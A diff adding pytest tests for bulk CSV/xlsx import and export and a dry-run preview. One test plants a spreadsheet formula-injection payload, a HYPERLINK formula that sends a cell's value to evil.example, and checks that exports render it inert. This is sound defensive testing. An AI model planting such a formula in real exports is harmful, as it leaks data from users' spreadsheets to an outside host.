@@ -1,9 +1,11 @@
 """Bulk import (JSON, CSV, .xlsx), export, and the .xlsx template round trip."""
 
+import csv
 import io
 
 from openpyxl import load_workbook
 
+from app.models.units import Unit
 from tests.reporting import GOOD
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -185,3 +187,81 @@ def test_an_empty_template_creates_nothing(api, figures_world):
     )
     assert r.json()["created"] == 0 and r.json()["unchanged"] == 1
     assert api.get("/api/v1/reports", headers=w.headers("reporter_a1")).json()["total"] == 0
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+
+
+def test_exports_keep_formula_like_names_as_text_and_reimport_unchanged(
+    api, figures_world, session
+):
+    w = figures_world
+    unit = session.get(Unit, w.unit_id("CC_A1"))
+    unit.name = EVIL
+    session.add(unit)
+    session.commit()
+    api.post(
+        "/api/v1/reports/import",
+        headers=w.headers("reviewer_a"),
+        json={"rows": [{"unit": "CC_A1", "period": "2022-Q1", "values": GOOD}]},
+    )
+    params = {"period": "2022-Q1"}
+    exported = api.get("/api/v1/reports/export", params=params, headers=w.headers("reviewer_a"))
+    header, row = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["unit_name"] == "'" + EVIL and cells["unit"] == "CC_A1"
+    assert cells["viec_co_dieu_kien"] == "653719" and cells["ty_le_tien"] == "27.59"
+    xlsx = api.get(
+        "/api/v1/reports/export",
+        params={**params, "format": "xlsx"},
+        headers=w.headers("reviewer_a"),
+    ).content
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    names = [c.value for c in sheet[1]]
+    cell = {name: c for name, c in zip(names, sheet[2], strict=True)}
+    assert (cell["unit_name"].value, cell["unit_name"].data_type) == (EVIL, "s")
+    assert (cell["viec_co_dieu_kien"].value, cell["viec_co_dieu_kien"].data_type) == (653719, "n")
+    # both files go back in unchanged: the quoted name is an ignored column, the codes are intact
+    for content, kind in ((exported.content, "text/csv"), (xlsx, XLSX)):
+        again = api.post(
+            "/api/v1/reports/import",
+            headers=w.headers("reviewer_a", **{"Content-Type": kind}),
+            content=content,
+        )
+        assert again.status_code == 200, again.text
+        assert (again.json()["unchanged"], again.json()["updated"]) == (1, 0)
+
+
+def test_a_dry_run_preview_says_what_each_row_changes(api, figures_world):
+    w = figures_world
+    api.post(
+        "/api/v1/reports/import",
+        headers=w.headers("reviewer_a"),
+        json={"rows": [{"unit": "CC_A1", "period": "2022-Q1", "values": GOOD}]},
+    )
+    changed = {**GOOD, "viec_dinh_chi": GOOD["viec_dinh_chi"] + 1}
+    body = csv_of([("CC_A1", "2022-Q1", changed), ("CC_A2", "2022-Q1", GOOD)])
+    r = api.post(
+        "/api/v1/reports/import",
+        params={"dry_run": True, "preview": 1},
+        headers=w.headers("reviewer_a", **{"Content-Type": "text/csv"}),
+        content=body,
+    )
+    assert r.status_code == 200, r.text
+    assert (r.json()["created"], r.json()["updated"]) == (1, 1)
+    [row] = r.json()["rows"]  # the first row only
+    assert row["unit"] == "CC_A1" and row["kind"] == "update" and row["row"] == 2
+    assert row["changes"] == [
+        {
+            "metric": "viec_dinh_chi",
+            "before": GOOD["viec_dinh_chi"],
+            "after": changed["viec_dinh_chi"],
+        }
+    ]
+    plain = api.post(
+        "/api/v1/reports/import",
+        params={"dry_run": True},
+        headers=w.headers("reviewer_a", **{"Content-Type": "text/csv"}),
+        content=body,
+    )
+    assert "rows" not in plain.json()
